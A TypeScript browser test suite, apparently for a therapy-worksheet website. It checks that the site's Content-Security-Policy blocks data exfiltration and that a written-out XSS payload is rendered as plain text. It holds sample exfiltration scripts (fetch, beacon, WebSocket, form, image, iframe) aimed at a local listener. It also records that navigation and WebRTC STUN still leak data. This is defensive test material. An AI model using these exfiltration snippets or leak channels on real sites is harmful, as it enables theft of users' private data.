import { createSocket } from 'node:dgram';
import { readdirSync, readFileSync } from 'node:fs';
import type { AddressInfo, Server } from 'node:net';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, onTestFinished } from 'vitest';
import type { ServedSite } from '../../build/server.ts';
import { openSite } from './site.ts';
import type { Visit } from './visit.ts';
import { visit } from './visit.ts';
import { waitUntilSaved } from './waiting.ts';

/** Words that stand nowhere else. */
const WORDS = 'quillwortbramble';

/** Each way out that SECURITY.md calls closed, as a script that got in would take it. */
const CLOSED: Readonly<Record<string, { readonly directive: string; readonly script: (to: string) => string }>> = {
  'fetching an address': { directive: 'connect-src', script: (to) => `void fetch('${to}').catch(() => undefined)` },
  'asking for it in the older way': {
    directive: 'connect-src',
    script: (to) => `{ const asking = new XMLHttpRequest(); asking.open('POST', '${to}'); asking.send('${WORDS}'); }`,
  },
  'sending a beacon': { directive: 'connect-src', script: (to) => `navigator.sendBeacon('${to}', '${WORDS}')` },
  'opening a socket': {
    directive: 'connect-src',
    script: (to) => `try { new WebSocket('${to.replace('http', 'ws')}') } catch {}`,
  },
  'listening for events': { directive: 'connect-src', script: (to) => `new EventSource('${to}')` },
  'submitting a form': {
    directive: 'form-action',
    script: (to) =>
      `document.body.append(Object.assign(document.createElement('form'), { action: '${to}' })); document.querySelector('body > form').submit()`,
  },
  'loading a picture': { directive: 'img-src', script: (to) => `Object.assign(new Image(), { src: '${to}' })` },
  'loading a script': {
    directive: 'script-src-elem',
    script: (to) =>
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: '${to}' }))`,
  },
  'showing a frame': {
    directive: 'frame-src',
    script: (to) => `document.body.append(Object.assign(document.createElement('iframe'), { src: '${to}' }))`,
  },
};

/** A page of the tests' own. */
const WITH_THE_WORD = '/with-the-word';

/** Another host, which writes down the first line of whatever comes. */
async function openHost(): Promise<{ readonly server: Server; readonly address: string; readonly heard: string[] }> {
  const heard: string[] = [];
  const server = createServer((socket) => {
    socket.on('error', () => undefined);
    socket.once('data', (data) => {
      heard.push(data.toString().split('\r\n')[0] ?? '');
      socket.end('HTTP/1.1 204 No Content\r\n\r\n');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard };
}

/** Every page of the built site, as a file. */
const files = () => readdirSync('dist', { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.html'));

describe('somebody on whose page a foreign script runs', () => {
  let site: ServedSite;
  let host: Awaited<ReturnType<typeof openHost>>;
  let here: Visit;

  beforeAll(async () => {
    site = await openSite();
    host = await openHost();
  });
  afterAll(async () => {
    host.server.close();
    await site.close();
  });
  beforeEach(async () => {
    here = await visit();
    host.heard.length = 0;
  });
  afterEach(() => here.end());

  it.each(Object.entries(CLOSED))('has no word carried away by %s', async (_way, { directive, script }) => {
    await here.page.goto(`${site.address}/worksheets/goals`);
    await here.page.evaluate(script(`${host.address}/?${WORDS}`));
    await expect.poll(() => here.trouble.violations.join()).toContain(directive);
    await here.page.waitForTimeout(200);
    expect(host.heard).toEqual([]);
  });

  it('is on a page with a policy, whichever it is, before anything else of that page is read', () => {
    expect(files().length).toBeGreaterThan(100);
    for (const file of files()) {
      const [, policy] =
        /^<!doctype html>\s*<html[^>]*>\s*<head>\s*(?:<meta charset="utf-8" \/>\s*)?<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(
          readFileSync(join('dist', file), 'utf8'),
        ) ?? [];
      expect(policy, file).toMatch(/^default-src 'none'; /);
    }
  });

  it('can have no text made into markup or code by it', async () => {
    await here.page.goto(`${site.address}/worksheets/goals`);
    // In a task of the page's own: what a tester evaluates itself may do more.
    const refused = await here.page.evaluate(
      () =>
        new Promise<readonly boolean[]>((resolve) => {
          const attempts = [
            () => (document.body.innerHTML = '<p>foreign</p>'),
            () => (document.createElement('script').text = 'foreign()'),
            () => new Function('return 1'),
          ];
          const isRefused = (attempt: () => unknown) => {
            try {
              attempt();
              return false;
            } catch {
              return true;
            }
          };
          setTimeout(() => resolve(attempts.map(isRefused)));
        }),
    );
    expect(refused).toEqual([true, true, true]);
  });

  it('can still have words carried away in an address that it opens, as the page on security says', async () => {
    await here.page.goto(`${site.address}/worksheets/goals`);
    await here.page.evaluate(`location.href = '${host.address}/?${WORDS}'`);
    await expect.poll(() => host.heard.join()).toContain(WORDS);
  });

  it.each([
    ['as the page on security says', '/worksheets/goals'],
    ['and would under a policy with the word against it, which this browser doesn’t know', WITH_THE_WORD],
  ])('can still have them carried away by a WebRTC connection, %s', async (_, address) => {
    const socket = createSocket('udp4');
    onTestFinished(() => void socket.close());
    let heard = false;
    socket.once('message', () => (heard = true));
    await new Promise<void>((resolve) => socket.bind(0, '0.0.0.0', resolve));
    await here.page.route(`**${WITH_THE_WORD}`, (route) =>
      route.fulfill({
        contentType: 'text/html',
        headers: { 'Content-Security-Policy': "webrtc 'block'" },
        body: '<p>A page</p>',
      }),
    );
    await here.page.goto(site.address + address);
    await here.page.evaluate(async (port) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      connection.createDataChannel('out');
      await connection.setLocalDescription(await connection.createOffer());
    }, socket.address().port);
    await expect.poll(() => heard, { timeout: 10_000 }).toBe(true);
  });
});

/** Words as somebody writes them who knows how pages are made, or pastes them. */
const MARKUP = '<img src="/no-such" onerror="document.title=\'foreign\'"><script>document.title=\'foreign\'</script><b>bold</b>';

describe('somebody who writes what looks like a part of a page', () => {
  it('reads it as they wrote it, on the sheet, on their page, and among earlier wordings', async () => {
    const site = await openSite();
    const here = await visit();
    onTestFinished(async () => {
      await here.end();
      await site.close();
    });
    const { page } = here;
    await page.goto(`${site.address}/begin/words`);
    await page.getByRole('textbox', { name: 'What do you call your therapist?' }).fill(MARKUP);
    await page.goto(`${site.address}/worksheets/coping-skills`);
    const field = page.getByRole('textbox').first();
    await field.fill(MARKUP);
    await waitUntilSaved(page);
    await page.reload();
    await expect.poll(() => field.inputValue()).toBe(MARKUP);
    await field.fill('something else');
    await waitUntilSaved(page);
    await page
      .getByRole('button', { name: /^Earlier wordings/ })
      .first()
      .click();
    await page
      .getByRole('region', { name: /^Earlier wordings/ })
      .getByText(MARKUP, { exact: true })
      .waitFor();
    await field.fill(MARKUP);
    await waitUntilSaved(page);
    await page.goto(`${site.address}/summary`);
    await page.getByRole('radio', { name: 'Put on my page' }).first().check();
    await page.locator('[data-summary]').getByText(MARKUP).first().waitFor();
    for (const address of ['/summary', '/worksheets/last-session', '/']) {
      await page.goto(site.address + address);
      await page.getByRole('heading', { level: 1 }).waitFor();
      expect(await page.locator('main :is(img, script, b)').count(), address).toBe(0);
    }
    expect(here.trouble).toEqual({ foreignRequests: [], violations: [], consoleErrors: [] });
  });
});
